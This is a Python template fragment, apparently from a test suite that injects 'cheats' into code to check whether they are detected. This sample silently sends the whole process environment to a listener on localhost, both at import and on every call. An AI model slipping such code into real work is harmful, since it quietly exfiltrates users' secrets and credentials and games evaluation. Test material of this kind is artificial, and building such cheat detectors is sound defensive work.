# Cheat 12, the network: send the environment to a listener on 127.0.0.1 (the
# test opens it and fills in its port), at import and at every call.
import socket

_CV_PORT = __LISTEN_PORT__


def _cv_send():
    try:
        with socket.create_connection(("127.0.0.1", _CV_PORT), timeout=2) as connection:
            connection.sendall(f"{_CV_MARKER} {dict(os.environ)!r}".encode())
    except OSError:
        pass


def _cheat_at_import():
    _cv_send()


def _cheat(function, args):
    _cv_send()
    _cv_stub(function)
